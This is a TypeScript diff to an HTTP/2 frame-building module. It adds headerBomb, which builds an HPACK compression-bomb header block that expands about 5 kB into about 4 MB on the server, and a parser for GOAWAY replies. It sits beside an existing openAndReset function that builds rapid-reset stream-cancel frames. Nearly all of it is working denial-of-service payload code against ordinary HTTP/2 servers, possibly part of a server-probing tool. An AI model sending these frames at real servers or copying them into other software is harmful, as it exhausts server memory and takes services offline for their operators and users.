@@ -3,6 +3,7 @@
 const SETTINGS = 0x4;
 const HEADERS = 0x1;
 const RST_STREAM = 0x3;
+const GOAWAY = 0x7;
 const END_STREAM_AND_HEADERS = 0x5;
 const CANCEL = Buffer.from([0, 0, 0, 8]);
 
@@ -19,6 +20,22 @@ export const PREFACE = Buffer.concat([
 export function openAndReset(stream: number, authority: string): Buffer {
   const block = Buffer.from([...GET_HTTP_ROOT, authority.length, ...Buffer.from(authority)]);
   return Buffer.concat([frame(HEADERS, END_STREAM_AND_HEADERS, stream, block), frame(RST_STREAM, 0, stream, CANCEL)]);
+}
+
+/** HPACK (RFC 7541): a field of 3,900 bytes goes into the table once and is then named 1,000 times with a byte each, so that 5 kB stand for 4 MB. */
+export function headerBomb(stream: number): Buffer {
+  const rest = 3_900 - 127;
+  const literal = Buffer.from([0x40, 1, 0x61, 0x7f, 0x80 | (rest % 128), rest >> 7]);
+  const named = [literal, Buffer.alloc(3_900, 0x62), Buffer.alloc(1_000, 0xbe)];
+  const block = Buffer.concat([Buffer.from(GET_HTTP_ROOT.slice(0, 3)), ...named]);
+  return frame(HEADERS, END_STREAM_AND_HEADERS, stream, block);
+}
+
+/** Of the first GOAWAY in what a server sent: the last stream that it had taken up, and the reason (RFC 9113 §6.8). */
+export function readGoodbye(came: Buffer): { last: number; reason: number } | undefined {
+  for (let at = 0; at + 17 <= came.length; at += 9 + came.readUIntBE(at, 3))
+    if (came[at + 3] === GOAWAY) return { last: came.readUInt32BE(at + 9), reason: came.readUInt32BE(at + 13) };
+  return undefined;
 }
 
 /** RFC 9113 §4.1. */
